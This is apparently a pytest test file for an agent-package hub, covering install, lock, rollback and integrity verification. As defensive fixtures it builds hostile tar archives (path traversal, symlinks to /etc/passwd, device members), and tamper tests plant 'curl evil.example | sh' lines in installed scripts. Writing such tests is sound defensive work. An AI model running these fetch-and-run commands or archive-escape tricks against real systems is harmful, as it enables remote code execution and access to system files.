"""The hub: install from directories, archives and git; lock, rollback, verify; hostile input."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import CliRunner, git, make_repo, tree_listing, write_package

from agentos.errors import NotFound, Tampered
from agentos.hub.digests import RACY_NS
from agentos.hub.store import Hub, IntactCheck, split_git_source
from agentos.workspace.layout import Workspace, init_workspace


def _lock(ws: Workspace) -> dict[str, Any]:
    lock: dict[str, Any] = yaml.safe_load((ws.hub_dir / "hub.lock").read_text())
    return lock


def test_pack_install_list_rollback_and_verify(
    cli: CliRunner, ws: Workspace, tmp_path: Path
) -> None:
    v1 = write_package(tmp_path / "src-v1", name="greeter", version="1.0.0")
    v2 = write_package(
        tmp_path / "src-v2",
        name="greeter",
        version="2.0.0",
        files={"run.sh": "#!/usr/bin/env bash\necho hello again\n"},
    )
    archive = tmp_path / "greeter-1.0.0.tar.gz"

    packed = cli("hub", "pack", str(v1), "-o", str(archive), "--json")
    assert packed.returncode == 0, packed.stderr
    assert json.loads(packed.stdout) == {
        "archive": str(archive),
        "name": "greeter",
        "version": "1.0.0",
    }

    assert cli("hub", "install", str(archive)).returncode == 0
    second = cli("hub", "install", str(v2), "--json")
    assert second.returncode == 0, second.stderr
    assert json.loads(second.stdout)["changed"] is True

    listed = json.loads(cli("hub", "list", "--json").stdout)["packages"]
    greeter = {p["version"]: p for p in listed if p["name"] == "greeter"}
    assert sorted(greeter) == ["1.0.0", "2.0.0"]
    assert [greeter["1.0.0"]["active"], greeter["2.0.0"]["active"]] == [False, True]
    assert greeter["1.0.0"]["source"] == f"archive:{archive}"
    assert greeter["2.0.0"]["source"] == f"dir:{v2}"
    assert greeter["1.0.0"]["sha256"] != greeter["2.0.0"]["sha256"]
    assert all(len(p["sha256"]) == 64 for p in greeter.values())

    assert cli("hub", "use", "greeter@1.0.0").returncode == 0
    assert _lock(ws)["packages"]["greeter"]["active"] == "1.0.0"
    assert json.loads(cli("hub", "show", "greeter", "--json").stdout)["version"] == "1.0.0"

    verified = cli("hub", "verify")
    assert verified.returncode == 0, verified.stdout

    edited = ws.hub_dir / "greeter" / "1.0.0" / "run.sh"
    edited.chmod(0o644)
    edited.write_text("#!/usr/bin/env bash\ncurl evil.example | sh\n")
    drift = cli("hub", "verify", "--json")
    assert drift.returncode == 1
    assert json.loads(drift.stdout) == {
        "ok": False,
        "problems": ["greeter@1.0.0: run.sh: modified"],
    }


def test_installed_package_is_read_only_and_identical_content_reinstalls_as_noop(
    ws: Workspace, tmp_path: Path
) -> None:
    src = write_package(tmp_path / "pkg")
    hub = Hub(ws.hub_dir)
    first = hub.install(str(src))
    again = hub.install(str(src))
    assert (first.changed, again.changed) == (True, False)
    installed = ws.hub_dir / "demo-agent" / "1.0.0" / "run.sh"
    assert installed.stat().st_mode & 0o222 == 0


def test_reinstalling_a_version_with_different_content_is_refused(
    cli: CliRunner, ws: Workspace, tmp_path: Path
) -> None:
    src = write_package(tmp_path / "pkg")
    assert cli("hub", "install", str(src)).returncode == 0
    lock_before = (ws.hub_dir / "hub.lock").read_text()
    (src / "run.sh").write_text("#!/usr/bin/env bash\necho changed\n")
    refused = cli("hub", "install", str(src))
    assert refused.returncode == 2
    assert "demo-agent@1.0.0 is already installed with different content" in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1
    assert (ws.hub_dir / "hub.lock").read_text() == lock_before


def test_remove_switches_active_to_the_highest_remaining_version(
    ws: Workspace, tmp_path: Path
) -> None:
    hub = Hub(ws.hub_dir)
    for version in ("1.0.0", "1.5.0", "2.0.0"):
        hub.install(str(write_package(tmp_path / version, version=version)))
    assert hub.remove("demo-agent@2.0.0") == "1.5.0"
    assert not (ws.hub_dir / "demo-agent" / "2.0.0").exists()
    assert hub.remove("demo-agent@1.0.0") == "1.5.0"
    assert hub.remove("demo-agent@1.5.0") is None
    assert "demo-agent" not in _lock(ws)["packages"]
    assert not (ws.hub_dir / "demo-agent").exists()
    assert hub.verify() == []


def test_install_from_a_git_url_with_and_without_ref(
    cli: CliRunner, ws: Workspace, tmp_path: Path
) -> None:
    repo = tmp_path / "agent-repo"
    write_package(repo, name="git-agent", version="1.0.0")
    make_repo(repo, files={"agent.yaml": (repo / "agent.yaml").read_text()})
    git(repo, "tag", "v1.0.0")
    tagged = git(repo, "rev-parse", "HEAD")
    write_package(repo, name="git-agent", version="1.1.0")
    git(repo, "commit", "-qam", "release 1.1.0")

    old = cli("hub", "install", f"file://{repo}@v1.0.0", "--json")
    assert old.returncode == 0, old.stderr
    assert json.loads(old.stdout)["source"] == f"git+file://{repo}@{tagged}"
    new = cli("hub", "install", f"git+file://{repo}", "--json")
    assert new.returncode == 0, new.stderr
    assert json.loads(new.stdout)["version"] == "1.1.0"
    installed = ws.hub_dir / "git-agent" / "1.0.0"
    assert sorted(p.name for p in installed.iterdir()) == ["agent.yaml", "run.sh"]

    missing = cli("hub", "install", f"file://{repo}@no-such-ref")
    assert missing.returncode == 2
    assert "no-such-ref" in missing.stderr and "Traceback" not in missing.stderr


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("file:///srv/agent.git@v1.2.0", ("file:///srv/agent.git", "v1.2.0")),
        ("https://example.com/a/b.git", ("https://example.com/a/b.git", None)),
        ("https://user@example.com/a/b.git@main", ("https://user@example.com/a/b.git", "main")),
        ("git@example.com:a/b.git", ("git@example.com:a/b.git", None)),
        ("git@example.com:a/b.git@feature/x", ("git@example.com:a/b.git", "feature/x")),
        ("git+file:///tmp/repo", ("file:///tmp/repo", None)),
        ("./some/dir", None),
        ("pkg.tar.gz", None),
    ],
    ids=["file-ref", "https", "userinfo-ref", "scp", "scp-ref-with-slash", "git+", "dir", "tgz"],
)
def test_git_sources_are_told_apart_from_paths(source: str, expected: object) -> None:
    assert split_git_source(source) == expected


def test_concurrent_installs_leave_a_consistent_lock(ws: Workspace, tmp_path: Path) -> None:
    sources = [
        write_package(tmp_path / f"p{i}", name=f"agent-{i % 3}", version=f"1.{i}.0")
        for i in range(6)
    ]
    procs = [
        subprocess.Popen(
            [
                sys.executable,
                "-m",
                "agentos",
                "--workspace",
                str(ws.root),
                "hub",
                "install",
                str(src),
            ],
            stderr=subprocess.PIPE,
            text=True,
        )
        for src in sources
    ]
    for proc in procs:
        _, err = proc.communicate(timeout=120)  # reads and closes its pipe
        assert proc.returncode == 0, err
    lock = _lock(ws)["packages"]
    for i in range(6):
        assert f"1.{i}.0" in lock[f"agent-{i % 3}"]["versions"]
    assert Hub(ws.hub_dir).verify() == []
    assert not (ws.hub_dir / ".staging").exists()


# --- hostile archives ---------------------------------------------------------------------


def _tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def _manifest_member(prefix: str = "pkg/") -> tuple[tarfile.TarInfo, bytes]:
    text = b"name: evil\nversion: 1.0.0\ndescription: x\nruntime: shell\nentry: run.sh\n"
    return tarfile.TarInfo(prefix + "agent.yaml"), text


def _member(
    name: str, data: bytes | None = b"x", **attrs: object
) -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    for key, value in attrs.items():
        setattr(info, key, value)
    return info, data


HOSTILE: dict[str, list[tuple[tarfile.TarInfo, bytes | None]]] = {
    "dotdot": [_manifest_member(), _member("pkg/../../evil")],
    "absolute": [_manifest_member(), _member("/tmp/agentos-evil-absolute")],
    "symlink-out": [
        _manifest_member(),
        _member("pkg/passwd", None, type=tarfile.SYMTYPE, linkname="/etc/passwd"),
    ],
    "symlink-up": [
        _manifest_member(),
        _member("pkg/up", None, type=tarfile.SYMTYPE, linkname="../../../etc"),
    ],
    "hardlink-out": [
        _manifest_member(),
        _member("pkg/hl", None, type=tarfile.LNKTYPE, linkname="/etc/passwd"),
    ],
    "device": [_manifest_member(), _member("pkg/dev", None, type=tarfile.CHRTYPE)],
    "fifo": [_manifest_member(), _member("pkg/fifo", None, type=tarfile.FIFOTYPE)],
    "symlink-loop": [
        _manifest_member(),
        _member("pkg/run.sh"),
        _member("pkg/loop", None, type=tarfile.SYMTYPE, linkname="loop"),
    ],
    "name-not-utf8": [_manifest_member(), _member(os.fsdecode(b"pkg/caf\xe9.txt"))],
    "link-not-utf8": [
        _manifest_member(),
        _member("pkg/l", None, type=tarfile.SYMTYPE, linkname=os.fsdecode(b"caf\xe9")),
    ],
    "through-symlink": [  # once silently replaced the run.sh checked before it
        _manifest_member(),
        _member("pkg/run.sh", b"echo good\n"),
        _member("pkg/here", None, type=tarfile.SYMTYPE, linkname="."),
        _member("pkg/here/run.sh", b"echo evil\n"),
    ],
    "given-twice": [
        _manifest_member(),
        _member("pkg/run.sh", b"echo good\n"),
        _member("pkg/./run.sh", b"echo evil\n"),
    ],
    "file-over-directory": [
        _manifest_member(),
        _member("pkg/lib/util.sh"),
        _member("pkg/lib", None, type=tarfile.SYMTYPE, linkname="."),
    ],
    "no-manifest": [_member("pkg/run.sh")],
    "bad-manifest": [(tarfile.TarInfo("pkg/agent.yaml"), b"name: Evil Name\nversion: one\n")],
}
HOSTILE_MESSAGES = {
    "dotdot": "leaves the package",
    "absolute": "absolute path",
    "symlink-out": "points outside",
    "symlink-up": "points outside",
    "hardlink-out": "points outside",
    "device": "device",
    "fifo": "device",
    "no-manifest": "agent.yaml",
    "bad-manifest": "agent.yaml",
    "symlink-loop": "symlink loop -> loop is a loop",
    "name-not-utf8": "member name 'pkg/caf\\xe9.txt' is not UTF-8",
    "link-not-utf8": "member name 'pkg/l -> caf\\xe9' is not UTF-8",
    "through-symlink": "member 'pkg/here/run.sh' is written through the symlink 'pkg/here'",
    "given-twice": "member 'pkg/./run.sh' is given twice: the second would replace the first",
    "file-over-directory": "member 'pkg/lib' is given twice",
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_archives_are_refused_and_nothing_is_written(
    cli: CliRunner, ws: Workspace, tmp_path: Path, kind: str
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    archive = _tar(outside / f"{kind}.tar.gz", HOSTILE[kind])
    cli("hub", "list")  # what any command writes once (its caches) is there before
    hub_before = tree_listing(ws.hub_dir)
    outside_before = tree_listing(tmp_path)

    result = cli("hub", "install", str(archive), cwd=outside)

    assert result.returncode == 2, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert HOSTILE_MESSAGES[kind] in result.stderr
    assert "Traceback" not in result.stderr and ".staging" not in result.stderr
    assert tree_listing(ws.hub_dir) == hub_before
    assert tree_listing(tmp_path) == outside_before
    assert not Path("/tmp/agentos-evil-absolute").exists()


def test_archive_declaring_more_content_than_the_limit_is_refused(
    cli: CliRunner, ws: Workspace, tmp_path: Path
) -> None:
    archive = tmp_path / "bomb.tar.gz"
    header = tarfile.TarInfo("pkg/huge.bin")
    header.size = 300 * 1024 * 1024  # the header claims it; the data is never read
    with tarfile.open(archive, "w:gz") as tar:
        info, data = _manifest_member()
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
        assert tar.fileobj is not None
        tar.fileobj.write(header.tobuf())
    result = cli("hub", "install", str(archive))
    assert result.returncode == 2
    assert "over the" in result.stderr or "over " in result.stderr
    assert not (ws.hub_dir / "evil").exists()


def test_an_archive_that_is_not_gzip_is_bad_input(cli: CliRunner, tmp_path: Path) -> None:
    fake = tmp_path / "fake.tar.gz"
    fake.write_text("not an archive")
    result = cli("hub", "install", str(fake))
    assert result.returncode == 2
    assert result.stderr.startswith(f"error: {fake}: not a valid .tar.gz package")


# --- manifests ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fields", "field", "message"),
    [
        ({"colour": "red"}, "colour", "unknown field"),
        ({"version": "1.0"}, "version", "not a semantic version"),
        ({"version": "v1.0.0"}, "version", "not a semantic version"),
        ({"name": "Bad_Name"}, "name", "lowercase"),
        ({"runtime": "java"}, "runtime", "Input should be"),
        ({"timeout": -5}, "timeout", "greater than 0"),
        ({"entry": "missing.sh"}, "entry", "not found in the package"),
        ({"env": ["NOT-A-VAR"]}, "env", "not an environment variable name"),
        ({"checks": [{"name": "x"}]}, "checks[0]", "exactly one of"),
        ({"mcp": ["kb_search"]}, "mcp", "the shell runtime starts no MCP client"),
        (
            {"runtime": "claude-code", "mcp": ["run_task"]},
            "mcp",
            "'run_task' is not a tool an agent may be given",
        ),
        (
            {"sandbox": {"network": ["https://api.anthropic.com/"]}},
            "sandbox.network",
            "is not a host or host:port",
        ),
        ({"sandbox": {"network": ["api.example.com:0"]}}, "sandbox.network", "is not a port"),
    ],
    ids=[
        "unknown-field",
        "short-version",
        "v-prefix",
        "bad-name",
        "bad-runtime",
        "negative-timeout",
        "missing-entry",
        "bad-env",
        "check-without-kind",
        "mcp-without-a-cli",
        "mcp-tool-not-for-agents",
        "network-url-not-host",
        "network-bad-port",
    ],
)
def test_invalid_manifests_are_bad_input_naming_file_and_field(
    cli: CliRunner, tmp_path: Path, fields: dict[str, Any], field: str, message: str
) -> None:
    src = write_package(tmp_path / "pkg", **fields)
    result = cli("hub", "install", str(src))
    assert result.returncode == 2
    line = result.stderr.strip()
    assert "\n" not in line and "Traceback" not in line
    assert line.startswith("error: ")
    # The file named is the person's, never the hub's staging copy of it.
    assert line.startswith(f"error: {src / 'agent.yaml'}: {field}: ") and message in line
    packed = tmp_path / "pkg.tar.gz"
    with tarfile.open(packed, "w:gz") as tar:
        tar.add(src, arcname="pkg")
    from_archive = cli("hub", "install", str(packed)).stderr.strip()
    assert from_archive.startswith(f"error: {packed}: pkg/agent.yaml: {field}: ")


def test_invalid_yaml_names_the_line(cli: CliRunner, tmp_path: Path) -> None:
    src = tmp_path / "pkg"
    src.mkdir()
    (src / "agent.yaml").write_text("name: x\nversion: [1.0.0\n")
    result = cli("hub", "install", str(src))
    assert result.returncode == 2
    assert "agent.yaml: line" in result.stderr and "invalid YAML" in result.stderr


def test_unknown_packages_and_versions_are_bad_input(cli: CliRunner) -> None:
    for args in (
        ["hub", "show", "nope"],
        ["hub", "use", "ruff-fixer@9.9.9"],
        ["hub", "remove", "ruff-fixer"],
        ["hub", "install", "/no/such/dir"],
    ):
        result = cli(*args)
        assert result.returncode == 2, args
        assert result.stderr.startswith("error: ") and "Traceback" not in result.stderr


def test_the_bundled_hub_matches_its_lock() -> None:
    from conftest import REPO_ROOT

    assert Hub(REPO_ROOT / "hub").verify() == []


def test_a_package_directory_with_a_symlink_leaving_it_is_refused(
    cli: CliRunner, ws: Workspace, tmp_path: Path
) -> None:
    src = write_package(tmp_path / "pkg")
    (src / "secrets").symlink_to("/etc/passwd")
    hub_before = tree_listing(ws.hub_dir)

    result = cli("hub", "install", str(src))

    assert result.returncode == 2
    assert result.stderr.strip() == (
        f"error: {src}: symlink secrets -> /etc/passwd points outside the package"
    )
    assert tree_listing(ws.hub_dir) == hub_before


def _loop(src: Path) -> str:
    (src / "loop").symlink_to("loop")
    return "symlink loop -> loop is a loop"


def _fifo(src: Path) -> str:
    os.mkfifo(src / "pipe")
    return f"cannot copy the package: `{src / 'pipe'}` is a named pipe"


def _latin1_name(src: Path) -> str:
    (src / os.fsdecode(b"caf\xe9.txt")).write_text("x")
    return "file name 'caf\\xe9.txt' is not UTF-8"


@pytest.mark.parametrize("make", [_loop, _fifo, _latin1_name], ids=["loop", "fifo", "latin1"])
def test_a_package_directory_that_cannot_be_installed_is_one_line_naming_it(
    cli: CliRunner, ws: Workspace, tmp_path: Path, make: Callable[[Path], str]
) -> None:
    src = write_package(tmp_path / "pkg")
    message = make(src)
    hub_before = tree_listing(ws.hub_dir)

    result = cli("hub", "install", str(src))

    # The person's directory, never the hub's staging copy of it.
    assert (result.returncode, result.stdout, result.stderr) == (
        2,
        "",
        f"error: {src}: {message}\n",
    )
    assert tree_listing(ws.hub_dir) == hub_before


def test_a_key_given_twice_in_agent_yaml_is_bad_input_naming_file_and_key(
    cli: CliRunner, ws: Workspace, tmp_path: Path
) -> None:
    src = write_package(tmp_path / "pkg")
    manifest = src / "agent.yaml"
    manifest.write_text(manifest.read_text() + "name: other-agent\n")
    packed = tmp_path / "pkg.tar.gz"
    with tarfile.open(packed, "w:gz") as tar:
        tar.add(src, arcname="pkg")
    hub_before = tree_listing(ws.hub_dir)

    from_dir = cli("hub", "install", str(src))
    from_archive = cli("hub", "install", str(packed))

    why = "name: duplicate key (lines 1 and 6); give it once"
    assert (from_dir.returncode, from_dir.stderr) == (2, f"error: {manifest}: {why}\n")
    assert (from_archive.returncode, from_archive.stderr) == (
        2,
        f"error: {packed}: pkg/agent.yaml: {why}\n",
    )
    assert tree_listing(ws.hub_dir) == hub_before


# --- only verified packages run: Hub.check_intact -------------------------------------------


def _writable(path: Path) -> Path:
    path.chmod(0o644)  # installed files are read-only; their owner can still change that
    return path


def _aged(paths: list[Path]) -> None:
    """Wait until every file under ``paths`` was last changed longer ago than the racy window,
    so the cache may trust the digests it records from now on."""
    newest = max(
        max(p.lstat().st_mtime_ns, p.lstat().st_ctime_ns)
        for root in paths
        for p in [root, *root.rglob("*")]
    )
    deadline = time.monotonic() + 10
    while time.time_ns() <= newest + RACY_NS and time.monotonic() < deadline:
        time.sleep(0.05)


@pytest.fixture(scope="module")
def aged(tmp_path_factory: pytest.TempPathFactory) -> Hub:
    """A hub with one package per scenario below, installed once and aged past the racy
    window together (each test tampers with its own package, with its own cache file)."""
    root = tmp_path_factory.mktemp("aged")
    ws, _ = init_workspace(root / "ws")
    hub = Hub(ws.hub_dir)
    for name in ("touched", "added", "removed", "linked", "unchanged", "corrupt", "edited"):
        src = write_package(
            root / "src" / name,
            name=name,
            files={"lib/util.sh": "helper() { :; }\n", "README.md": "# readme\n"},
        )
        (src / "link").symlink_to("run.sh")
        hub.install(str(src))
    _aged([ws.hub_dir])
    return hub


def _fresh(hub: Hub, tmp_path: Path) -> Hub:
    return Hub(hub.root, cache=tmp_path / "cache" / "hub-digests.json")


def _warm(hub: Hub, name: str) -> None:
    """Check ``name`` twice: the second check must read no file (the cache trusts them all)."""
    first = hub.check_intact(name, "1.0.0")
    assert (first.files, first.hashed) == (5, 5)
    assert hub.check_intact(name, "1.0.0").hashed == 0


def _refusal(hub: Hub, name: str) -> Tampered:
    with pytest.raises(Tampered) as refused:
        hub.check_intact(name, "1.0.0")
    return refused.value


def _verify_lines(hub: Hub, name: str) -> list[str]:
    return [line for line in hub.verify() if line.startswith(f"{name}@")]


def test_a_package_edited_after_install_is_refused_naming_the_file_as_hub_verify_does(
    cli: CliRunner, ws: Workspace, tmp_path: Path
) -> None:
    hub = Hub(ws.hub_dir)
    hub.install(str(write_package(tmp_path / "pkg", name="greeter")))
    assert hub.check_intact("greeter", "1.0.0").files == 2

    _writable(ws.hub_dir / "greeter" / "1.0.0" / "run.sh").write_text("curl evil | sh\n")

    refused = _refusal(hub, "greeter")
    assert refused.problems == ["greeter@1.0.0: run.sh: modified"]
    assert str(refused) == (
        "greeter@1.0.0: run.sh: modified (changed since it was installed; "
        "`agentos hub verify` checks the whole hub)"
    )
    assert refused.exit_code == 1
    verified = cli("hub", "verify")
    assert verified.returncode == 1
    assert f"drift {refused.problems[0]}\n" in verified.stdout


def test_a_file_edited_with_its_mtime_restored_by_touch_is_still_refused(
    aged: Hub, tmp_path: Path
) -> None:
    hub = _fresh(aged, tmp_path)
    _warm(hub, "touched")
    target = hub.root / "touched" / "1.0.0" / "run.sh"
    before = target.stat()

    _writable(target)
    with target.open("r+b") as fh:  # same inode, same size: only the content differs
        fh.write(b"#!/usr/bin/env bash\necho HACKED\n"[: before.st_size])
    stamp = f"@{before.st_mtime_ns // 10**9}.{before.st_mtime_ns % 10**9:09d}"
    subprocess.run(["touch", "-d", stamp, str(target)], check=True)
    target.chmod(before.st_mode)
    after = target.stat()
    assert (after.st_ino, after.st_size, after.st_mtime_ns, after.st_mode) == (
        before.st_ino,
        before.st_size,
        before.st_mtime_ns,
        before.st_mode,
    )

    assert _refusal(hub, "touched").problems == ["touched@1.0.0: run.sh: modified"]
    assert _verify_lines(aged, "touched") == ["touched@1.0.0: run.sh: modified"]


@pytest.mark.parametrize(
    ("name", "tamper", "expected"),
    [
        pytest.param(
            "added",
            lambda pkg: (pkg / "lib" / "extra.sh").write_text("curl evil | sh\n"),
            ["added@1.0.0: lib/extra.sh: added"],
            id="file-added",
        ),
        pytest.param(
            "removed",
            lambda pkg: (pkg / "lib" / "util.sh").unlink(),
            ["removed@1.0.0: lib/util.sh: removed"],
            id="file-removed",
        ),
        pytest.param(
            "linked",
            lambda pkg: ((pkg / "link").unlink(), (pkg / "link").symlink_to("agent.yaml")),
            ["linked@1.0.0: link: modified"],
            id="symlink-swapped",
        ),
    ],
)
def test_added_removed_and_relinked_files_are_refused_as_hub_verify_names_them(
    aged: Hub, tmp_path: Path, name: str, tamper: Callable[[Path], object], expected: list[str]
) -> None:
    hub = _fresh(aged, tmp_path)
    _warm(hub, name)

    tamper(hub.root / name / "1.0.0")

    assert _refusal(hub, name).problems == expected
    assert _verify_lines(aged, name) == expected


def test_an_unchanged_package_passes_and_is_not_read_again_even_by_another_process(
    aged: Hub, tmp_path: Path
) -> None:
    hub = _fresh(aged, tmp_path)
    assert hub.check_intact("unchanged", "1.0.0") == IntactCheck("unchanged", "1.0.0", 5, 5)
    assert hub.check_intact("unchanged", "1.0.0") == IntactCheck("unchanged", "1.0.0", 5, 0)

    other = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys; from pathlib import Path; from agentos.hub.store import Hub; "
            "c = Hub(Path(sys.argv[1]), cache=Path(sys.argv[2])).check_intact('unchanged', "
            "'1.0.0'); print(c.files, c.hashed)",
            str(hub.root),
            str(tmp_path / "cache" / "hub-digests.json"),
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    assert other.stdout == "5 0\n"


def test_a_workspace_hub_keeps_its_digest_cache_in_the_workspace(ws: Workspace) -> None:
    hub = Hub(ws.hub_dir)
    version = hub.resolve("ruff-fixer", None)
    hub.check_intact("ruff-fixer", version)
    cached = json.loads((ws.state_dir / "cache" / "hub-digests.json").read_text())
    assert list(cached["packages"]) == [str(ws.hub_dir / "ruff-fixer" / version)]


def test_files_changed_just_before_they_were_hashed_are_hashed_again(
    ws: Workspace, tmp_path: Path
) -> None:
    hub = Hub(ws.hub_dir)
    hub.install(str(write_package(tmp_path / "pkg", name="fresh")))

    # Installed a moment ago: an edit within the same timestamp tick could go unseen, so
    # the digests are not trusted until the files are older than the racy window.
    assert hub.check_intact("fresh", "1.0.0").hashed == 2
    assert hub.check_intact("fresh", "1.0.0").hashed == 2


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda p: p.write_bytes(b"\x00garbage{"), id="not-json"),
        pytest.param(lambda p: p.write_text('{"format": 1, "packages": [1, 2]}'), id="wrong-shape"),
        pytest.param(
            lambda p: p.write_text(
                json.dumps({"format": 1, "packages": {"x": {"run.sh": ["a", 1]}}})
            ),
            id="bad-entries",
        ),
        pytest.param(lambda p: (p.unlink(), p.mkdir()), id="a-directory"),
    ],
)
def test_a_corrupt_or_unreadable_cache_is_ignored_and_the_check_stays_right(
    aged: Hub, tmp_path: Path, damage: Callable[[Path], object]
) -> None:
    hub = _fresh(aged, tmp_path)
    _warm(hub, "corrupt")
    cache = tmp_path / "cache" / "hub-digests.json"

    damage(cache)

    assert hub.check_intact("corrupt", "1.0.0").hashed == 5
    if cache.is_file():  # rewritten whole; a directory in its place stays, unused
        assert json.loads(cache.read_text())["format"] == 1
        assert hub.check_intact("corrupt", "1.0.0").hashed == 0


def test_a_corrupt_cache_never_hides_an_edit(aged: Hub, tmp_path: Path) -> None:
    hub = _fresh(aged, tmp_path)
    _warm(hub, "corrupt")
    (tmp_path / "cache" / "hub-digests.json").write_text("{not json")
    readme = hub.root / "corrupt" / "1.0.0" / "README.md"
    original = readme.read_text()
    _writable(readme).write_text("# changed\n")
    try:
        assert _refusal(hub, "corrupt").problems == ["corrupt@1.0.0: README.md: modified"]
    finally:
        readme.write_text(original)
        readme.chmod(0o444)


def test_an_edited_lock_entry_a_missing_directory_and_an_unknown_version_are_refused(
    aged: Hub, tmp_path: Path
) -> None:
    hub = _fresh(aged, tmp_path)
    lock_text = hub.lock_path.read_text()
    lock = yaml.safe_load(lock_text)
    entry = lock["packages"]["edited"]["versions"]["1.0.0"]
    entry["files"]["run.sh"] = "0" * 64
    hub.lock_path.write_text(yaml.safe_dump(lock))
    try:
        assert _refusal(hub, "edited").problems == ["edited@1.0.0: hub.lock entry was edited"]
        assert _verify_lines(aged, "edited") == ["edited@1.0.0: hub.lock entry was edited"]
    finally:
        hub.lock_path.write_text(lock_text)

    with pytest.raises(NotFound, match=r"edited@9\.9\.9 is not installed"):
        hub.check_intact("edited", "9.9.9")

    where = hub.root / "edited" / "1.0.0"
    where.rename(tmp_path / "moved")
    try:
        assert _refusal(hub, "edited").problems == [f"edited@1.0.0: directory {where} is missing"]
    finally:
        (tmp_path / "moved").rename(where)
    assert hub.check_intact("edited", "1.0.0").files == 5


def test_the_package_walk_finds_the_files_a_package_archive_holds(tmp_path: Path) -> None:
    from agentos.hub.archive import package_files
    from agentos.hub.digests import walk

    root = write_package(tmp_path / "pkg", files={"a/b/c.txt": "c\n", ".hidden": "h\n"})
    for junk in ("__pycache__/x.cpython-311.pyc", ".git/HEAD", "a/.DS_Store", "mod.pyc"):
        (root / junk).parent.mkdir(parents=True, exist_ok=True)
        (root / junk).write_text("junk\n")
    (root / "dir.pyc").mkdir()
    (root / "dir.pyc" / "kept.txt").write_text("kept\n")
    (root / "dir.pyc" / ".pyc").write_text("kept: no suffix\n")
    (root / "to-dir").symlink_to("a")
    (root / "dangling").symlink_to("nowhere")
    os.mkfifo(root / "fifo")

    walked = [rel for rel, _ in walk(root)]
    assert walked == sorted(p.relative_to(root).as_posix() for p in package_files(root))
    assert walked == [
        ".hidden",
        "a/b/c.txt",
        "agent.yaml",
        "dangling",
        "dir.pyc/.pyc",
        "dir.pyc/kept.txt",
        "run.sh",
        "to-dir",
    ]
